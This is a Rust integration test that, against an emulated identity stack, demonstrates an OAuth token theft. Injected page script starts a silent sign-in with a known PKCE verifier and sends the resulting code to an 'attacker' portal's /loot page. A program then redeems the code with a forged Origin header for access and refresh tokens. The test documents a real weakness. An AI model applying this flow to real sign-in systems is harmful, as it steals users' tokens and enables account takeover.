//! An attack that no page can prevent: script in it starts its own sign-in, whose verifier it knows, and navigates to
//! another site with the code. There the code is redeemed.

use cross_tests::{Browser, CONTOSO_PAGE, Host, Portal, Setup, Stack};
use serde_json::Value;

use super::{SIGNED_IN, page_with, sign_in_as};

/// RFC 7636, appendix B.
const VERIFIER: &str = "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk";
const CHALLENGE: &str = "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM";

#[tokio::test]
async fn script_gets_tokens_by_starting_its_own_sign_in() {
    let attacker = Portal::named("attacker").await;
    let loot = attacker.put("/loot", "<!doctype html><p>taken</p>");
    let script = format!(
        "if (location.hash.includes('state=theirs')) location.replace({loot:?} + '?' + location.hash.slice(1));"
    );
    let page = page_with(&script, &["boot.js"]);
    let stack = Stack::serving(page.path(), Host::Proper, Setup::default()).await;
    let browser = Browser::start().await;
    sign_in_as("alice@fabrikam.example", &stack, &browser).await;
    browser.wait_for_text(SIGNED_IN).await;

    let scope = "https://auth.msft.communication.azure.com/Teams.ManageCalls offline_access";
    let authority = format!("{}/organizations/oauth2/v2.0", stack.entra);
    let authorize = format!(
        "{authority}/authorize?client_id={CONTOSO_PAGE}&response_type=code&response_mode=fragment&prompt=none&state=theirs\
         &nonce=theirs&code_challenge_method=S256&code_challenge={CHALLENGE}&redirect_uri={}&scope={}",
        stack.page,
        scope.replace(' ', "%20"),
    );
    browser.script(&format!("location = {authorize:?}")).await;
    browser.wait_for_text("taken").await;
    let requests = attacker.requests();
    let code = requests.iter().find_map(|line| line.split_once("/loot?code=")?.1.split(['&', ' ']).next()).unwrap();

    // A program, unlike a browser, can send any origin.
    let form = [
        ("grant_type", "authorization_code"),
        ("client_id", CONTOSO_PAGE),
        ("code", code),
        ("code_verifier", VERIFIER),
        ("redirect_uri", &stack.page),
        ("scope", scope),
    ];
    let body = form
        .map(|(name, value)| format!("{name}={}", value.replace(':', "%3A").replace('/', "%2F").replace(' ', "%20")));
    let request = reqwest::Client::new()
        .post(format!("{authority}/token"))
        .header("origin", stack.page.trim_end_matches('/'))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(body.join("&"));
    let answer = request.send().await.unwrap().bytes().await.unwrap();
    let answer: Value = serde_json::from_slice(&answer).unwrap();
    assert!(stack.emulator.has_issued_refresh_token(answer["refresh_token"].as_str().unwrap()), "{answer}");
    assert!(answer["access_token"].is_string());
}
